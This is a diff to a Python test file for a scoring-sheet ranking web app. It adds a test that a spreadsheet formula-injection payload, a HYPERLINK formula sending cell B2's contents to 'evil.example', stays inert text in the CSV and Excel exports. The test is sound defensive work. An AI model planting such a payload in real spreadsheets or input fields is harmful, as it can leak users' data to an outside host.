@@ -111,3 +111,19 @@ def test_a_round_without_sheets_still_renders_and_exports(app, client, auth, mak
     assert [(row[0], row[1], row[-1]) for row in rows] == [(None, "Q1", "无已提交的评分表"), (None, "Q2", "无已提交的评分表")]
     pages, text = pdf_text(client.get(f"/rankings/rounds/{round_id}/sheets.pdf").data)
     assert pages == 2 and text.count("尚无已提交的评分表") == 2
+
+
+def test_an_expert_comment_never_becomes_a_formula(app, client, auth, round_id):
+    from web.io.ranking_excel import ranking_csv
+    from web.services.ranking import Options, round_ranking
+
+    payload = '=HYPERLINK("https://evil.example/?"&B2,"详情")'
+    with app.app_context():
+        sheet_of(round_id, "P1", "E5").comment = payload
+        db.session.commit()
+        csv_text = ranking_csv(round_ranking(get_round(round_id), Options())).decode("utf-8-sig")
+    assert "\n=" not in csv_text and ",=" not in csv_text
+    auth.login("organizer")
+    workbook = load_workbook(io.BytesIO(client.get(f"/rankings/rounds/{round_id}/export.xlsx").data))
+    cells = [cell for row in workbook["评分明细"].iter_rows() for cell in row if cell.value == payload]
+    assert cells and all(cell.data_type == "s" for cell in cells)
